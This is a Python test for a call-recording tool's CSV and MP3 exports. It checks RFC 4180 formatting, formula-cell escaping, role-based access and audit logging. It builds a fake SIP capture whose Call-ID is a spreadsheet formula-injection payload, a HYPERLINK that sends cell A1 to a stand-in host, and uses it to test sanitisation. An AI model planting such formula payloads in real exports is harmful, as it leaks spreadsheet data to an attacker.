"""Exports of issue #18: the CSV of a search, and MP3.

A capture written here holds one call whose Call-ID and caller are made to
attack a spreadsheet (a leading '=', '+', '-' or '@', a quote, a comma) and
an ordinary one.  `earshot calls --csv` and GET /api/calls.csv (same
filters) must give RFC 4180 CSV (CRLF, quoted fields, doubled quotes) whose
formula cells start with an apostrophe, and the same bytes; the CSV is for
roles with "export" (a supervisor: 200; an agent: 403), and audited as
call.export with the format and the call ids.  `earshot export --format
mp3` of a real call (../shared/captures) is an MP3 with both channels and
the recording's duration (ffprobe), with no plaintext copy left behind."""
import csv
import io
import os
import struct
import subprocess

from estest import (EARSHOT, SHARED, Results, calls_json, earshot, free_port, have, http_req,
                    http_stop, http_wait_up, import_capture, tmpdir)

res = Results()
work = tmpdir("earshot-exports-")
data = os.path.join(work, "data")
PW = "correct horse battery"


def ip_udp(src, dst, sport, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                      bytes(map(int, src.split("."))), bytes(map(int, dst.split("."))))
    s = sum(struct.unpack("!10H", hdr))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    hdr = hdr[:10] + struct.pack("!H", ~s & 0xffff) + hdr[12:]
    return hdr + udp


def sip(first, call_id, from_uri, to_uri, tag_to=None, cseq="1 INVITE"):
    to = "<%s>" % to_uri + (";tag=%s" % tag_to if tag_to else "")
    return ("%s\r\nVia: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK-%s\r\n"
            "From: <%s>;tag=a1\r\nTo: %s\r\nCall-ID: %s\r\nCSeq: %s\r\n"
            "Content-Length: 0\r\n\r\n" % (first, abs(hash(call_id)) % 10**8, from_uri, to,
                                           call_id, cseq)).encode()


def write_pcap(path, calls):
    t = 1700000000.0
    out = [struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 101)]  # LINKTYPE_RAW
    for cid, frm, to in calls:
        msgs = [("192.0.2.1", "192.0.2.2", sip("INVITE %s SIP/2.0" % to, cid, frm, to)),
                ("192.0.2.2", "192.0.2.1", sip("SIP/2.0 486 Busy Here", cid, frm, to, "b1"))]
        for src, dst, m in msgs:
            pkt = ip_udp(src, dst, 5060, 5060, m)
            out.append(struct.pack("<IIII", int(t), int((t % 1) * 1e6), len(pkt), len(pkt)) + pkt)
            t += 0.5
        t += 5
    with open(path, "wb") as f:
        f.write(b"".join(out))


EVIL_ID = '=HYPERLINK("http://x.example/?"&A1,"click")@192.0.2.1'
EVIL_FROM = "sip:+4930555@192.0.2.1"
pcap = os.path.join(work, "csv.pcap")
write_pcap(pcap, [(EVIL_ID, EVIL_FROM, "sip:-1@192.0.2.2"),
                  ("plain-call@192.0.2.1", "sip:alice@192.0.2.1", "sip:bob@192.0.2.2")])
p, _ = import_capture(data, pcap)
res.check(p.returncode == 0 and len(calls_json(data)) == 2, "import: %s" % p.stderr[-300:])

# bytes: Python's text mode would turn CRLF into LF
cli = subprocess.run([EARSHOT, "--data", data, "calls", "--csv"], capture_output=True).stdout
res.check(cli.count(b"\r\n") == 3 and b"\n" not in cli.replace(b"\r\n", b""),
          "CRLF line ends (RFC 4180 2.1): %r" % cli[:200])
rows = list(csv.reader(io.StringIO(cli.decode(), newline="")))
head = rows[0] if rows else []
byid = {r[head.index("call_id")]: r for r in rows[1:]} if "call_id" in head else {}
evil = next((r for k, r in byid.items() if "HYPERLINK" in k), None)
res.check(evil is not None and evil[head.index("call_id")] == "'" + EVIL_ID,
          "the formula Call-ID gets a leading apostrophe, quotes kept: %r" %
          (evil and evil[head.index("call_id")]))
res.check(evil is not None and evil[head.index("callee")] == "sip:-1@192.0.2.2" and
          evil[head.index("outcome")] == "busy",
          "other cells as they are: %r" % evil)
res.check(b'"\'=HYPERLINK(""http://x.example/?""&A1,""click"")@192.0.2.1"' in cli,
          "the field is quoted and its quotes doubled (RFC 4180 2.5-2.7)")

subprocess.run([EARSHOT, "--data", data, "user", "add", "super1", "--role", "supervisor",
                "--password-stdin"], input=PW + "\n", text=True, check=True, capture_output=True)
subprocess.run([EARSHOT, "--data", data, "user", "add", "agent1", "--role", "agent", "--numbers",
                "alice", "--password-stdin"], input=PW + "\n", text=True, check=True,
               capture_output=True)
host, port = "127.0.0.1", free_port()
srv = subprocess.Popen([EARSHOT, "--data", data, "serve", "--listen", "%s:%d" % (host, port)],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def login(name):
    st, h, _ = http_req(host, port, "POST", "/api/login", {"name": name, "password": PW})
    return h.get("set-cookie", "").split(";")[0].split("=", 1)[-1] if st == 200 else None


try:
    if res.check(http_wait_up(host, port, srv), "server up"):
        sup, agent = login("super1"), login("agent1")
        st, h, body = http_req(host, port, "GET", "/api/calls.csv", cookie=sup, raw=True)
        res.check(st == 200 and body == cli and h.get("content-type", "").startswith("text/csv")
                  and "attachment" in h.get("content-disposition", ""),
                  "API CSV is the CLI's: %d %s %r" % (st, h.get("content-type"), body[:120]))
        st, _, body = http_req(host, port, "GET", "/api/calls.csv?call_id=plain-call@192.0.2.1",
                               cookie=sup, raw=True)
        res.check(st == 200 and body.count(b"\r\n") == 2 and b"plain-call" in body,
                  "the search's filters apply: %r" % body)
        st, _, _ = http_req(host, port, "GET", "/api/calls.csv", cookie=agent, raw=True)
        res.check(st == 403, "an agent may not export a CSV: %d" % st)
        st, _, _ = http_req(host, port, "GET", "/api/calls.csv?bogus=1", cookie=sup, raw=True)
        res.check(st == 400, "an unknown parameter is refused: %d" % st)
finally:
    rc, err = http_stop(srv)
    res.check(rc == 0 and "Sanitizer" not in err, "server exits cleanly: %s %s" % (rc, err[-300:]))
p = earshot(data, "audit", "--json", check=False)
res.check('"call.export"' in p.stdout and "format csv" in p.stdout and
          all(str(c["id"]) in p.stdout for c in calls_json(data)),
          "audited: call.export, format csv, the call ids: %s" % p.stdout[-600:])
res.check('"denied"' in p.stdout, "the agent's refusal is audited")

# ---- MP3 through LAME: `earshot export --format mp3` of a real call -------------------------
g711 = os.path.join(SHARED, "SIP_CALL_RTP_G711")
if os.path.exists(g711) and have("ffprobe"):
    d2 = os.path.join(work, "g711")
    import_capture(d2, g711)
    call = next(c for c in calls_json(d2) if c["recording"])
    mp3 = os.path.join(work, "call.mp3")
    p = earshot(d2, "export", "--format", "mp3", str(call["id"]), "-o", mp3, check=False)
    probe = subprocess.run(["ffprobe", "-v", "error", "-show_entries",
                            "stream=codec_name,channels,sample_rate:format=duration", "-of",
                            "default=nw=1", mp3], capture_output=True, text=True).stdout
    info = dict(x.split("=", 1) for x in probe.split())
    res.check(p.returncode == 0 and info.get("codec_name") == "mp3" and
              info.get("channels") == "2" and
              abs(float(info.get("duration", 0)) - call["recording"]["duration_s"]) < 0.5,
              "MP3 export: %d %s %s" % (p.returncode, p.stderr, info))
    left = [f for f in os.listdir(work) if ".tmp." in f]
    res.check(not left, "no plaintext copy left beside the MP3: %s" % left)
else:
    res.skip("MP3: SIP_CALL_RTP_G711 or ffprobe missing")
res.finish()
